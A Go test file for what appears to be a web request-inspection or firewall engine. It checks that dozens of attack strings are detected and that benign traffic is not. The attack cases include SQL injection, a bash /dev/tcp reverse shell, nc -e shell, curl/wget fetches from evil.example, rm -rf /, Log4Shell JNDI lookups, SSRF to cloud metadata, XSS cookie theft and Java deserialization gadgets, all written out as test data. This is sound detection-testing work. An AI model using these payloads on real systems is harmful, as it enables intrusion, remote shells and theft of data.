package inspect

import (
	"strings"
	"testing"
)

// look looks at one value in every place it could stand in, and returns what was
// found in that named by where.
func look(where, s string) (found []string) {
	var q Query
	q.Begin(New(Config{}), 80, 0)
	switch where {
	case "path", "query", "target":
		Target(&q, "GET", s)
	case "header":
		Field(&q, "X-Test", s)
	case "json":
		q.Body(JSON, []byte(s), -1)
	case "form":
		q.Body(Form, []byte(s), -1)
	case "bytes":
		q.Body(Bytes, []byte(s), -1)
	case "page":
		q.Body(Page, []byte(s), -1)
	case "hessian":
		q.Body(Hessian, []byte(s), -1)
	case "grpc":
		q.Body(GRPC, []byte(s), -1)
	default:
		panic(where)
	}
	for k := range Gadget + 1 {
		if q.found&(1<<k) != 0 {
			found = append(found, k.String())
		}
	}
	return found
}

func TestAttacks(t *testing.T) {
	for _, c := range []struct{ kind, where, s string }{
		{"sql", "target", "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users"},
		{"sql", "target", "/items?id=-1+union+all+select+null,null--+-"},
		{"sql", "target", "/items?id=1/**/uNiOn/**/SeLeCt/**/1,2,3"},
		{"sql", "target", "/items?id=1%2527%2520or%25201%253D1--"},
		{"sql", "target", "/items?id=1/*!50000union*//*!50000select*/1,2"},
		{"sql", "target", "/login?user=admin'--"},
		{"sql", "target", "/login?user=admin'%20--%20-"},
		{"sql", "target", "/login?user=x'%20or%20'1'='1"},
		{"sql", "target", "/login?user=x%27%09OR%0a%271%27%3d%271"},
		{"sql", "target", "/items?id=1%20or%201=1"},
		{"sql", "target", "/items?id=1%20and%201=1"},
		{"sql", "target", "/items?id=1)%20or%20(1=1"},
		{"sql", "target", "/items?id=1'%20and%20sleep(5)--"},
		{"sql", "target", "/items?id=1;waitfor%20delay%20'0:0:5'--"},
		{"sql", "target", "/items?id=(select(0)from(select(sleep(5)))v)"},
		{"sql", "target", "/items?id=1%20AND%20extractvalue(1,concat(0x7e,version()))"},
		{"sql", "form", "user=bob&note=x');+DROP+TABLE+students;--"},
		{"sql", "json", `{"user":"x' or 'a'='a","n":1}`},
		{"sql", "json", `{"user":"x\u0027 or \u00271\u0027=\u00271"}`},
		{"sql", "json", `{"a":{"b":["1 union select 1,2 from t"]}}`},
		{"sql", "header", "Mozilla/5.0' or '1'='1"},
		{"sql", "bytes", "<q><id>1' UNION SELECT password FROM users</id></q>"},
		{"shell", "target", "/ping?host=127.0.0.1;cat%20/etc/hosts"},
		{"shell", "target", "/ping?host=127.0.0.1%26%26id"},
		{"shell", "target", "/ping?host=x|whoami"},
		{"shell", "target", "/ping?host=$(curl+http://evil.example/x)"},
		{"shell", "target", "/ping?host=`wget+http://evil.example/x`"},
		{"shell", "target", "/ping?host=x%0aid"},
		{"shell", "target", "/ping?host=x;cat${IFS}/etc/hosts"},
		{"shell", "json", `{"host":"8.8.8.8; rm -rf /"}`},
		{"shell", "json", `{"cmd":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}`},
		{"shell", "header", "() { :; }; /bin/cat /etc/hosts"},
		{"shell", "form", "host=1.1.1.1|nc+-e+/bin/sh+10.0.0.1+4444"},
		{"shell", "target", "/run?c=cmd.exe+/c+dir"},
		{"traversal", "target", "/static/../../etc/hosts"},
		{"traversal", "target", "/static/%2e%2e%2f%2e%2e%2fetc/hosts"},
		{"traversal", "target", "/static/..%c0%af..%c0%afetc/hosts"},
		{"traversal", "target", "/static/%252e%252e%252fetc/hosts"},
		{"traversal", "target", "/get?file=../../../../etc/hosts"},
		{"traversal", "target", "/get?file=..%5c..%5cwindows%5cwin.ini"},
		{"traversal", "target", "/get?file=/etc/passwd"},
		{"traversal", "target", "/app/..;/manager/html"},
		{"traversal", "json", `{"file":"../../../etc/passwd"}`},
		{"template", "header", "${jndi:ldap://evil.example/a}"},
		{"template", "header", "${${lower:j}${lower:n}di:ldap://evil.example/a}"},
		{"template", "header", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}"},
		{"template", "target", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"},
		{"template", "json", `{"name":"{{7*7}}"}`},
		{"template", "json", `{"name":"${7*7}"}`},
		{"template", "target", "/?name={{config.__class__.__init__.__globals__}}"},
		{"template", "json", `{"__proto__":{"admin":true}}`},
		{"template", "target", "/?__proto__[admin]=1"},
		{"template", "form", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
		{"ssrf", "target", "/fetch?url=http://169.254.169.254/latest/meta-data/"},
		{"ssrf", "target", "/fetch?url=http%3A%2F%2F2852039166%2F"},
		{"ssrf", "target", "/fetch?url=http://[::ffff:a9fe:a9fe]/"},
		{"ssrf", "json", `{"webhook":"http://metadata.google.internal/computeMetadata/v1/"}`},
		{"ssrf", "target", "/fetch?url=file:///etc/hosts"},
		{"ssrf", "target", "/fetch?url=gopher://127.0.0.1:6379/_INFO"},
		{"script", "target", "/?q=<script>alert(1)</script>"},
		{"script", "target", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"},
		{"script", "target", "/?next=javascript:alert(document.cookie)"},
		{"script", "json", `{"bio":"<svg onload=alert(1)>"}`},
		{"gadget", "json", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}`},
		{"gadget", "header", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
		{"gadget", "bytes", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap"},
		{"gadget", "hessian", "C\x1d" + "com.sun.rowset.JdbcRowSetImpl" + "\x91\x0edataSourceName"},
		{"gadget", "hessian", "Mt" + "\x00\x1d" + "com.sun.rowset.JdbcRowSetImpl" + "\x05"},
		{"gadget", "hessian", "O\xad" + "com.sun.rowset.JdbcRowSetImpl" + "\x91"},
	} {
		if got := look(c.where, c.s); !strings.Contains(" "+strings.Join(got, " ")+" ", " "+c.kind+" ") {
			t.Errorf("%s %q: found %q, want %s", c.where, c.s, got, c.kind)
		}
	}
}

// What services send each other, and people write, must not be taken for an
// attack.
func TestOrdinary(t *testing.T) {
	for _, c := range []struct{ where, s string }{
		{"target", "/"},
		{"target", "/accounts/12345/transfers?from=2026-01-01&to=2026-02-01&limit=50"},
		{"target", "/search?q=black+and+white+or+colour"},
		{"target", "/search?q=the+union+of+soviet+republics&sort=name+asc"},
		{"target", "/search?q=select+a+seat+from+the+list"},
		{"target", "/search?q=O'Reilly+and+sons"},
		{"target", "/search?q=rock+'n'+roll"},
		{"target", "/search?q=5'+6\"+or+6'+2\""},
		{"target", "/search?q=1+or+2+rooms"},
		{"target", "/search?q=drop+table+reservation"},
		{"target", "/search?q=AT%26T+id"},
		{"target", "/search?q=cat+food;+dog+food"},
		{"target", "/search?q=a+%7C+b+%7C%7C+c"},
		{"target", "/search?q=100%25+wool"},
		{"target", "/search?q=%E4%B8%AD%E6%96%87%E6%90%9C%E7%B4%A2"},
		{"target", "/v1/docs/a..b/c...d"},
		{"target", "/img/logo..png?v=1.2.3"},
		{"target", "/redirect?to=https://example.com/a?b=c"},
		{"target", "/redirect?to=../login"},
		{"target", "/geo?lat=48.2&lon=-3.1e-2"},
		{"target", "/metadata?host=192.168.1.254"},
		{"target", "/odata/Items?$filter=Price%20gt%205%20and%20Price%20lt%2010"},
		{"target", "/odata/Items?$filter=Name%20eq%20'Milk'%20or%20Name%20eq%20'Eggs'"},
		{"target", "/_search?q=user:alice%20AND%20status:(open%20OR%20closed)"},
		{"target", "/a/{id}/b"},
		{"header", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
		{"header", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"},
		{"header", "sid=abc123; theme=dark; id=42; cat=7; ls=1"},
		{"header", "Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc-_123"},
		{"header", `"33a64df551425fcc55e4d42a148795d9f25f89d4", W/"67ab43"`},
		{"header", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
		{"header", `for="10.88.0.1:4711";proto=https;by=_gw`},
		{"header", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
		{"header", `"Chromium";v="126", "Not;A=Brand";v="24"`},
		{"header", "max-age=0, no-cache; ls"},
		{"json", `{"amount":12.50,"currency":"EUR","from":"acc-1","to":"acc-2","note":"rent & heating; thanks"}`},
		{"json", `{"note":"It's 5 o'clock -- or is it 6?"}`},
		{"json", `{"note":"x = 1 or y = 2"}`},
		{"json", `{"comment":"Use the ` + "`id` and `ls` columns, `cat` too" + `"}`},
		{"json", `{"comment":"Run ` + "`cat file.txt | grep x`" + ` first"}`},
		{"json", `{"body":"Dear Ms. Union,\nselect one of the options; delete the rest."}`},
		{"json", `{"html":"<p>Hello <b>world</b></p><img src=\"a.png\">"}`},
		{"json", `{"template":"Hello {{name}}, you owe ${amount}"}`},
		{"json", `{"regex":"^(a|b)*$","path":"../shared/lib.css"}`},
		{"json", `{"text":"see /etc/passwd in the manual"}`},
		{"json", `{"text":"The address 169.254.169.254 is link-local"}`},
		{"json", `{"text":"We read about com.sun.rowset.JdbcRowSetImpl in the advisory"}`},
		{"json", `{"@type":"com.bank.model.Transfer","amount":1}`},
		{"json", `{"code":"if (a || b) { sleep(5); }"}`},
		{"json", `{"code":"for i in range(5): time.sleep(1)"}`},
		{"json", `{"sum":"2*3=6 and 4*5=20"}`},
		{"json", `{"name":"Robert'); is a nickname"}`},
		{"json", `{"sql":"SELECT name FROM users WHERE id = 7"}`},
		{"json", `{"list":[1,2,3,{"a":null,"b":true}],"empty":{},"s":""}`},
		{"json", `{"constructor":"ACME Ltd","prototype":"v2"}`},
		{"form", "user=alice&password=p%40ss%27w0rd%3B-x&remember=on"},
		{"form", "comment=I+like+cats+and+dogs;+id+rather+not+say"},
		{"bytes", "name;city;zip\nAnn;Rome;00100\nBob;Oslo;0150\n"},
		{"bytes", "<invoice><item qty=\"2\">Pipe &amp; cable</item></invoice>"},
		{"bytes", "#!/bin/sh\nset -e\ncat /etc/hosts | grep x; ls -l\n"[:21]},
		{"page", "<html><head><script src=\"/a.js\"></script></head><body onload=\"go()\"></body></html>"},
		{"hessian", "\x05hello\x1fcom.bank.ledger.LedgerServiceXX"},
		{"hessian", "H\x04text\x30\x3cthe class com.sun.rowset.JdbcRowSetImpl is named in this text"},
		{"grpc", "\x00\x00\x00\x00\x0b\x0a\x05alice\x10\x96\x01\x1a\x00"},
	} {
		if got := look(c.where, c.s); len(got) > 0 {
			t.Errorf("%s %q: found %q", c.where, c.s, got)
		}
	}
}
